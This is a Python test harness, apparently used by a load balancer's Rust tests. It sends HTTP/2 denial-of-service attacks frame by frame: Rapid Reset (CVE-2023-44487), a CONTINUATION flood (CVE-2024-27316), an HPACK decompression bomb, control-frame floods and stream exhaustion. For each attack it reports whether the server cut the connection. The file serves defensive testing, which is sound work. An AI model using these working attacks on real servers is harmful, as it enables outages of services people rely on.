"""The abuse HTTP/2 invites, written frame by frame over TLS (ALPN h2).

Used by tests/h2.rs: `python3 h2abuse.py ATTACK HOST PORT`. Prints `requests N` (the
requests the attack put on the wire, that a backend could have been asked) and `outcome
cut ...` when the balancer ended the connection (GOAWAY, or the socket closed), `outcome
served ...` when the attack ran its course without that.
"""
import socket
import ssl
import struct
import sys
import time

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def say(key, value):
    print(f"{key} {value}", flush=True)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Attack:
    def __init__(self, host, port):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        self.sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2"
        self.enc = hpack.Encoder()
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.requests = 0
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def headers(self, sid, path="/", end_stream=True):
        block = self.enc.encode([(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "localhost")])
        self.requests += 1
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), sid, block)

    def poll(self, timeout=0.0):
        """Reads what the server sent; notes GOAWAY and the end of the connection."""
        self.sock.settimeout(timeout if timeout > 0 else 0.0001)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = True
                    break
                self.buf += data
                while len(self.buf) >= 9:
                    n = struct.unpack(">I", b"\0" + self.buf[:3])[0]
                    if len(self.buf) < 9 + n:
                        break
                    kind, payload = self.buf[3], self.buf[9 : 9 + n]
                    self.buf = self.buf[9 + n :]
                    if kind == GOAWAY and len(payload) >= 8:
                        self.goaway = struct.unpack(">I", payload[4:8])[0]
                    elif kind == SETTINGS and not (self.buf[4:5] and False):
                        pass
        except (socket.timeout, TimeoutError, BlockingIOError, ssl.SSLWantReadError):
            pass
        except (OSError, ssl.SSLError):
            self.closed = True

    def cut(self):
        return self.goaway is not None or self.closed

    def run(self, seconds, step):
        """Calls `step(i)` (which writes) until the server cuts the connection or time is up."""
        end = time.monotonic() + seconds
        i = 0
        while time.monotonic() < end and not self.cut():
            if not step(i):
                break
            i += 1
            if i % 64 == 0:
                self.poll()
        # What the server says after the attack stops.
        stop = time.monotonic() + 3
        while time.monotonic() < stop and not self.cut():
            self.poll(0.2)


FLOODS = {
    "ping_flood": frame(PING, 0, 0, struct.pack(">Q", 7)),
    "ping_ack_flood": frame(PING, ACK, 0, struct.pack(">Q", 7)),
    "settings_flood": frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)),
    "window_update_flood": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    "unknown_flood": frame(0xFA, 0, 0, b""),
}


def main():
    attack, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    a = Attack(host, port)
    if attack == "rapid_reset":
        # CVE-2023-44487: open a stream and reset it at once, as fast as possible.
        def step(i):
            sid = 1 + 2 * i
            return a.send(a.headers(sid) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))

        a.run(10, step)
    elif attack == "continuation":
        # CVE-2024-27316: a header block that never ends.
        a.requests = 1
        a.send(frame(HEADERS, 0, 1, a.enc.encode([(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", "localhost")])))
        junk = a.enc.encode([("x-filler", "y" * 1000)])

        def step(i):
            return a.send(frame(CONTINUATION, 0, 1, junk))

        a.run(10, step)
    elif attack == "hpack_bomb":
        # A 4 KiB header put in the dynamic table once, then referenced by one byte each:
        # a few bytes on the wire decode to megabytes.
        big = a.enc.encode([("x-bomb", "b" * 4000)])
        a.send(a.headers(1, end_stream=False)[:-0 or None])
        index = bytes([0x80 | 62])

        def step(i):
            sid = 3 + 2 * i
            base = a.enc.encode([(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", "localhost")])
            a.requests += 1
            return a.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, base + (big if i == 0 else b"") + index * 2000))

        a.run(10, step)
    elif attack in FLOODS:
        # An upload that never ends keeps a stream open: the connection is not idle, so only
        # the flood itself can end it.
        a.send(frame(HEADERS, END_HEADERS, 1, a.enc.encode([(":method", "POST"), (":scheme", "https"), (":path", "/upload"), (":authority", "localhost")])))
        a.requests += 1
        one = FLOODS[attack]

        def step(i):
            return a.send(one * 64)

        a.run(10, step)
    elif attack == "empty_data":
        a.send(a.headers(1, end_stream=False))
        a.send(frame(DATA, 0, 1, b"x"))

        def step(i):
            return a.send(frame(DATA, 0, 1) * 64)

        a.run(10, step)
    elif attack == "idle":
        # No stream at all: the connection must end at keepalive_timeout.
        a.run(10, lambda i: (time.sleep(0.1), True)[1])
    elif attack == "streams":
        # Streams opened and never finished (no END_STREAM), far past max_concurrent_streams,
        # for an answer that takes seconds: the streams past the limit are refused.
        def step(i):
            return a.send(a.headers(1 + 2 * i, path="/slow", end_stream=False))

        a.run(10, step)
    say("requests", a.requests)
    say("outcome", ("cut goaway=%s" % a.goaway) if a.cut() else "served")


if __name__ == "__main__":
    main()
